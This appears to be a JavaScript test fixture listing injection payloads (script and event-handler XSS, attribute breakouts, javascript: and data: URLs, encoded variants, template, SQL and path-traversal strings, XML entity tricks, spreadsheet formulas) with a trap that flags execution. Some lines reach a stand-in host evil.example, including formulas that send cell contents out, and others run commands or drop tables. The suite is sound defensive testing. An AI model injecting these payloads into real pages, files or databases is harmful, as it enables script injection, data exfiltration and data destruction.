// Texts that attack whatever shows them: markup, attributes, addresses, templates, styles, spreadsheets,
// paths, control characters. Each sets window.hacked or asks for evil.example if anything runs it.
const RUN = "window.hacked=1", URL = "https://evil.example/";

export const PAYLOADS = [
  // Elements
  `<script>${RUN}</script>`, `<SCRIPT SRC=${URL}x.js></SCRIPT>`, `<script type=module>${RUN}</script>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\n>${RUN}</script\n>`, `<script/x>${RUN}</script>`, `<<script>${RUN}//<</script>`, `<img src=x onerror=${RUN}>`, `<img src=x onerror="${RUN}">`,
  `<img src='${URL}'>`, `<img/src/onerror=${RUN}>`, `<img src=x:x onerror\n=${RUN}>`, `<IMG """><SCRIPT>${RUN}</SCRIPT>">`, `<image href=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`, `<svg/onload=${RUN}//`, `<svg><script>${RUN}</script></svg>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${RUN}><a id=x>`, `<svg><use href="${URL}#x">`, `<svg><image href=${URL}>`, `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`, `<math><annotation-xml encoding=text/html><img src=x onerror=${RUN}>`, `<iframe src=javascript:${RUN}>`, `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<object data=javascript:${RUN}>`, `<object data="${URL}">`, `<embed src=javascript:${RUN}>`, `<embed src=${URL}>`, `<body onload=${RUN}>`, `<body onpageshow=${RUN}>`,
  `<video><source onerror=${RUN}>`, `<video src=x onerror=${RUN}>`, `<audio src onerror=${RUN}>`, `<video poster=${URL}>`, `<details open ontoggle=${RUN}>x</details>`, `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`, `<textarea autofocus onfocus=${RUN}>`, `<marquee onstart=${RUN}>`, `<button popovertarget=x onclick=${RUN}>x</button><div popover id=x onbeforetoggle=${RUN}>`,
  `<dialog open onclose=${RUN}>`, `<form action=javascript:${RUN}><button>x</button></form>`, `<form id=x></form><button form=x formaction=javascript:${RUN}>x`, `<isindex action=javascript:${RUN} type=submit>`,
  `<link rel=stylesheet href=${URL}>`, `<link rel=prefetch href=${URL}>`, `<link rel=dns-prefetch href=//evil.example>`, `<meta http-equiv=refresh content="0;url=${URL}">`, `<base href=${URL}>`,
  `<style>@import '${URL}';</style>`, `<style>*{background:url(${URL})}</style>`, `<style onload=${RUN}></style>`, `<template><script>${RUN}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<xss contenteditable onfocus=${RUN} autofocus tabindex=1>`, `<custom-element onclick=${RUN}>x</custom-element>`, `<portal src=javascript:${RUN}>`, `<applet code=x archive=${URL}>`, `<frameset onload=${RUN}>`, `<table background=${URL}>`,
  // Breaking out of an attribute, a text, a comment
  `"><script>${RUN}</script>`, `'><script>${RUN}</script>`, `" onmouseover=${RUN} x="`, `' onfocus=${RUN} autofocus x='`, "`onmouseover=" + RUN, `"/><img src=x onerror=${RUN}>`, `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`, `</style><script>${RUN}</script>`, `</script><script>${RUN}</script>`, `--><script>${RUN}</script><!--`, `--!><img src=x onerror=${RUN}>`, `]]><script>${RUN}</script>`,
  `<![CDATA[<script>${RUN}</script>]]>`, `<!--><img src=x onerror=${RUN}>-->`, `<?xml-stylesheet href="javascript:${RUN}"?>`, `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;`, `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>&b;`,
  // Addresses
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, `java\nscript:${RUN}`, `\u0001javascript:${RUN}`, ` javascript:${RUN}`, `javascript://%0a${RUN}`, `javascript&colon;${RUN}`, `vbscript:${RUN}`,
  `data:text/html,<script>parent.${RUN}</script>`, `data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=`, `blob:${URL}`, `view-source:${URL}`, `//evil.example/x`, `\\\\evil.example\\share`, `file:///etc/passwd`, `${URL}?q=<b>`,
  // Entities and encodings
  `&lt;script&gt;${RUN}&lt;/script&gt;`, `&#60;img src=x onerror=${RUN}&#62;`, `&#x3C;svg onload=${RUN}&#x3E;`, `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`, `%3Cscript%3E${RUN}%3C/script%3E`, `\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`, `&amp;&quot;&apos;&nbsp;&notit;`, `\u2028${RUN}\u2029`, `\u0000<script>${RUN}</script>`, `<\u0000script>${RUN}</script>`, `\u202E<script>\u202C`, `\u2066gnp.exe\u2069\u200F`,
  `Z\u0351\u0363a\u0351l\u0363g\u0351o`, `\uFEFFx`, `a\u200Bb\u00ADc`, `👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿`, `ﷺ`.repeat(20),
  // Templates, selectors, code
  `{{constructor.constructor('${RUN}')()}}`, `\${${RUN}}`, `<%= ${RUN} %>`, `#{${RUN}}`, `[[${RUN}]]`, `{name} {n} {{}} %s %n $1 $&`, `__proto__`, `constructor`, `toString`, `*{x:expression(${RUN})}`, `";${RUN}//`, `';${RUN}//`, `\\";${RUN}//`,
  `</p><p onclick=${RUN}>`, `) or 1=1; drop table x;--`, `$(touch /tmp/x)`, `../../../../etc/passwd`, `CON.json`, `x'; DROP TABLE "records"; --`,
  // Spreadsheets
  `=HYPERLINK("${URL}?"&A1,"click")`, `=1+1`, `+1+1`, `-1+1`, `@SUM(1,1)`, `=cmd|' /C calc'!A0`, `\t=1+1`, `\r=1+1`, `\n=1+1`, ` =1+1`, `\u00A0=1+1`, `＝1+1`, `＋1`, `－1`, `＠SUM(1)`, `%0A=1+1`, `|x`, `=IMPORTXML(CONCAT("${URL}",A1),"//a")`,
  `"=1+1"`, `a,b;c\td`, `a"b""c`, `a\r\nb`, `'=1+1`,
];

/** Before the page's own scripts: whatever runs or opens something leaves a mark. */
export const trap = () => {
  for (const name of ["alert", "confirm", "prompt", "open", "print"]) window[name] = () => { window.hacked = name; };
};
